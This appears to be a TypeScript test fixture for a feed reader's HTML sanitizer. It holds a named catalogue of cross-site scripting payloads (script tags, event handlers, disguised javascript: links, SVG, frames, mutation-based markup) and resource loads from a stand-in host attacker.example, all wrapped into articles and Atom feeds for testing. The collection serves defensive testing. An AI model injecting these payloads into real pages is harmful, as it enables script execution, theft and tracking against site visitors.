/** Effect of a successful attack. */
const RUN = "window.attacked=true";
/** A host that must never be requested. */
const FOREIGN = "https://attacker.example";

/** Attacks on a reader's browser by markup, by name. */
export const attacks: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script><script src="${FOREIGN}/a.js"></script>`,
  "event handlers": `<img src="x" onerror="${RUN}"><details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}">`,
  "an SVG that loads": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  "a script in SVG": `<svg><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  "a javascript link": `<a href="javascript:${RUN}">x</a>`,
  "a javascript link in disguise": `<a href="JaVa\nScRiPt:${RUN}">x</a> <a href="java&Tab;script&colon;${RUN}">y</a>`,
  "a javascript link behind a control character": `<a href=" &#14; javascript:${RUN}">x</a>`,
  "a data link": `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  "a vbscript link": `<a href="vbscript:msgbox(1)">x</a>`,
  "a frame with a script": `<iframe src="javascript:${RUN}" title="x"></iframe>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "objects and embeds": `<object data="javascript:${RUN}"></object><embed src="data:text/html,<script>${RUN}</script>">`,
  "a form": `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  "a redirect and another base": `<meta http-equiv="refresh" content="0;url=${FOREIGN}"><base href="javascript:${RUN}//">`,
  styles: `<style>@import "${FOREIGN}/a.css"; *{background:url(${FOREIGN}/b)}</style><p style="background:url(${FOREIGN}/c)">x</p>`,
  "things from elsewhere": `<link rel="stylesheet" href="${FOREIGN}/a.css"><img src="${FOREIGN}/pixel.gif" width="1" height="1"><video src="${FOREIGN}/v.mp4" poster="${FOREIGN}/p.jpg" autoplay></video>`,
  "markup that changes when it is parsed again": `<math><mtext></form><form><mglyph><style></math><img src="x" onerror="${RUN}"></style></mglyph></form></mtext></math>`,
  "markup in an attribute": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><img alt='"><script>${RUN}</script>' src="x">`,
  "markdown in the text": `<p>[x](javascript:${RUN}) ![x](data:text/html,1) &lt;javascript:${RUN}&gt; [y]: vbscript:1</p>`,
  "markup as text": `<p>&lt;img src=x onerror=${RUN}&gt; &lt;script&gt;${RUN}&lt;/script&gt;</p>`,
};

export const LAST_WORDS = "After the attack the story goes on";
const FILLING =
  "The story of the day is told at length, so that nobody takes it for a teaser of something that stands elsewhere. ";

/** Wraps the markup in an article long enough to be the full text. */
export function articleAround(markup: string): string {
  return `<p>${FILLING.repeat(4)}</p>\n${markup}\n<p>${FILLING.repeat(4)} ${LAST_WORDS}.</p>`;
}

interface HostileEntry {
  title: string;
  link: string;
  /** Absent when the page must be fetched. */
  html?: string;
}

/** An Atom document, newest entry first. The author is an attack too. */
export function atomOf(title: string, entries: readonly HostileEntry[]): string {
  const author = text("<script>window.attacked=true</script> Eve");
  return `<feed xmlns="http://www.w3.org/2005/Atom"><title>${text(title)}</title>${entries
    .map(({ title, link, html }, index) => {
      const at = new Date(Date.now() - (index + 1) * 60_000).toISOString();
      const body = html === undefined ? "<summary>A teaser…</summary>" : `<content type="html">${text(html)}</content>`;
      return `<entry><id>${text(link)}</id><title type="text">${text(title)}</title><link href="${text(link)}"/>
        <published>${at}</published><author><name>${author}</name></author>${body}</entry>`;
    })
    .join("\n")}</feed>`;
}

function text(value: string): string {
  return value.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
}
